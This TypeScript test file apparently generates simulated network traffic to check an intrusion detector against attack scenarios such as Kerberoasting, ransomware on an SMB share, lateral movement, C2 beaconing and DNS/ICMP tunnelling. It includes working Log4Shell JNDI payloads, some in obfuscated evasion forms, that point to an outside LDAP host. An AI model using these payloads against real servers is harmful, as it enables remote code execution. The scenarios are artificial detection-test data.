/** Tickets, shares, web servers, sessions and tunnels. */
import { A, type Attack, B, C, D, OUTSIDE, zeros } from './attack.ts';
import { asReply, asRequest, dnsAnswer, dnsQuestion, kdcError, tgsReply, tgsRequest } from './directory.ts';
import type { Scene } from './scene.ts';
import { IDS, Smb2 } from './windows.ts';

const http = (scene: Scene, head: string, body = '', port = 80, from = A, to = B): void =>
  scene.tcp(from, to, port).c(`${head}\r\n\r\n${body}`).s('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok').close();
const log4shell = (name: string, head: string, body = ''): Attack => ({
  name: `Log4Shell: ${name}`,
  play: (scene) => http(scene, head, body, 8080),
  found: [`exploit.log4shell attempted ${A}>${B}`],
});
/** A lookup as Log4j reads it, `§` standing for the sign before its braces. */
const lookup = (text: string): string => text.replaceAll('§', '$');
const agent = (text: string): string => `GET /login HTTP/1.1\r\nHost: app\r\nUser-Agent: ${text}`;
export const OTHERS: readonly Attack[] = [
  {
    name: 'Kerberoasting of five services',
    play: (scene) => {
      const kdc = (): void => {
        for (const service of ['MSSQLSvc/a', 'HTTP/b', 'MSSQLSvc/c', 'IMAP/d', 'VNC/e'])
          scene
            .tcp(A, B, 88)
            .c(tgsRequest(service, [18, 17, 23], 18))
            .s(tgsReply(service, 23))
            .close();
      };
      kdc();
    },
    found: [`credential.kerberoasting succeeded ${A}>${B}`],
  },
  {
    name: 'Kerberoasting of one account by name',
    play: (scene) =>
      void scene
        .tcp(A, B, 88)
        .c(tgsRequest('CLINIC\\svc_sql', [23, 16, 3, 18], 18))
        .s(tgsReply('CLINIC\\svc_sql', 23))
        .close(),
    found: [`credential.kerberoasting succeeded ${A}>${B}`],
  },
  {
    name: 'AS-REP roasting',
    play: (scene) => {
      for (const user of ['a', 'b', 'c', 'd']) {
        const link = scene.tcp(A, B, 88).c(asRequest(user, [23], false));
        link.s(user === 'd' ? asReply(user, 23) : kdcError(25));
        link.close();
      }
    },
    found: [`credential.asrep-roasting succeeded ${A}>${B}`],
  },
  {
    name: 'a first ticket that nobody gave',
    play: (scene) => {
      scene
        .tcp(C, B, 88)
        .c(asRequest('nurse', [18, 23], true))
        .s(asReply('nurse', 18))
        .close();
      scene
        .tcp(A, B, 88)
        .c(tgsRequest('cifs/fs01', [18, 17, 23], 23))
        .s(tgsReply('cifs/fs01', 18))
        .close();
    },
    found: [`credential.forged-ticket attempted ${A}>${B}`],
  },
  {
    name: 'who is signed in where',
    play: (scene) => {
      for (let host = 10; host < 18; host++)
        new Smb2(scene.tcp(A, `10.0.0.${host}`, 445))
          .tree(`\\\\10.0.0.${host}\\IPC$`)
          .pipe('srvsvc', IDS.srvsvc)
          .call(12, zeros(40), { stub: zeros(60) });
    },
    found: [`discovery.sessions attempted ${A}>8`],
  },
  {
    name: 'ransomware on a share',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\Data`);
      for (let i = 0; i < 60; i++) {
        const file = smb.create(`docs\\plan-${i}.docx`);
        smb.read(file, zeros(6000)).write(file, Buffer.alloc(6000, i)).rename(file, `docs\\plan-${i}.docx.locked`);
        scene.wait(0.1);
      }
    },
    found: [`impact.ransomware succeeded ${A}>${B}`],
  },
  log4shell('plain', agent(lookup('§{jndi:ldap://203.0.113.7:1389/a}'))),
  log4shell('in pieces', agent(lookup('§{§{::-j}§{::-n}§{::-d}§{::-i}:§{::-l}dap://203.0.113.7/a}'))),
  log4shell('lower', agent(lookup('§{§{lower:j}§{lower:n}§{lower:d}i:ldap://203.0.113.7/a}'))),
  log4shell('in the middle', agent(lookup('§{jn§{lower:d}i:ldap://203.0.113.7/a}'))),
  log4shell('percent-encoded', 'GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D HTTP/1.1\r\nHost: app'),
  log4shell(
    'in a body',
    'POST /login HTTP/1.1\r\nHost: app\r\nContent-Length: 44',
    lookup('{"user":"§{jndi:ldap://203.0.113.7:1389/a}"}'),
  ),
  {
    name: 'Log4Shell, and the server fetches its program',
    play: (scene) => {
      http(scene, agent(lookup('§{jndi:ldap://203.0.113.7:9001/a}')), '', 8080);
      scene
        .tcp(B, OUTSIDE, 1389)
        .c(Buffer.from('300c020101600702010304008000', 'hex'))
        .s(Buffer.from('300c02010161070a010004000400', 'hex'));
    },
    found: [`exploit.log4shell succeeded ${A}>${B}`],
  },
  {
    name: 'WinRM',
    play: (scene) => {
      const link = scene.tcp(A, B, 5985);
      for (let i = 0; i < 6; i++) {
        link.c(`POST /wsman?PSVersion=5.1 HTTP/1.1\r\nHost: b:5985\r\nContent-Length: 4\r\n\r\nabcd`);
        link.s(`HTTP/1.1 ${i < 2 ? '401 Unauthorized' : '200 OK'}\r\nContent-Length: 0\r\n\r\n`);
      }
    },
    found: [`lateral.winrm succeeded ${A}>${B}`],
  },
  {
    name: 'SSH and RDP, on from host to host',
    play: (scene) => {
      const ssh = (from: string, to: string): void => {
        const link = scene.tcp(from, to, 22).c('SSH-2.0-OpenSSH_9.6\r\n').s('SSH-2.0-OpenSSH_9.6\r\n');
        for (let i = 0; i < 60; i++) link.c(Buffer.alloc(120, i)).s(Buffer.alloc(240, i));
        scene.wait(20);
      };
      ssh(A, B);
      ssh(B, C);
      const link = scene
        .tcp(C, D, 3389)
        .c(Buffer.from('030000130ee000000000000100080003000000', 'hex'))
        .s(Buffer.from('030000130ed000001234000209080002000000', 'hex'));
      for (let i = 0; i < 60; i++) link.c([0x17, 3, 3, 0, 200], zeros(200)).s([0x17, 3, 3, 4, 0], zeros(1024));
    },
    found: [`lateral.ssh succeeded ${A}>${B}`, `lateral.ssh succeeded ${B}>${C}`, `lateral.rdp succeeded ${C}>${D}`],
  },
  {
    name: 'calls home with jitter',
    play: (scene) => {
      let state = 7;
      for (let i = 0; i < 60; i++) {
        state = (state * 1103515245 + 12345) % 2147483648;
        http(scene, 'GET /ca HTTP/1.1\r\nHost: 203.0.113.7:8080\r\nUser-Agent: Mozilla/5.0', '', 8080, A, OUTSIDE);
        scene.wait(60 - (state / 2147483648) * 30);
      }
    },
    found: [`c2.beacon succeeded ${A}>${OUTSIDE}`],
  },
  {
    name: 'dnscat2, mostly idle',
    play: (scene) => {
      for (let i = 0; i < 80; i++) {
        const hex = (0x9e3779b1 * (i + 3)).toString(16).padStart(16, '0');
        scene.datagrams(A, B, 53, dnsQuestion(i, `${hex}0a1f${hex}.t.example.org`, [16, 5, 15][i % 3] ?? 16));
        scene.wait(1);
      }
    },
    found: [`dns.tunnel succeeded ${A}>${B}`],
  },
  {
    name: 'domains that a program makes up',
    play: (scene) => {
      let state = 99;
      for (let i = 0; i < 60; i++) {
        let name = '';
        for (let at = 0; at < 12; at++) {
          state = (state * 1103515245 + 12345) % 2147483648;
          name += 'bcdfghjklmnpqrstvwxzaeio'.charAt(Math.floor((state / 2147483648) * 24));
        }
        scene.datagrams(A, B, 53, dnsQuestion(i, `${name}.info`, 1), dnsAnswer(i, `${name}.info`, 1, []));
      }
    },
    found: [`dns.made-up-names attempted ${A}>${B}`],
  },
  {
    name: 'data in pings',
    play: (scene) => {
      for (let i = 0; i < 100; i++)
        scene.echo(A, OUTSIDE, i, Buffer.alloc(i % 2 ? 20 : 900, i), Buffer.alloc(i % 3 ? 8 : 300, i));
    },
    found: [`icmp.tunnel succeeded ${A}>${OUTSIDE}`],
  },
];
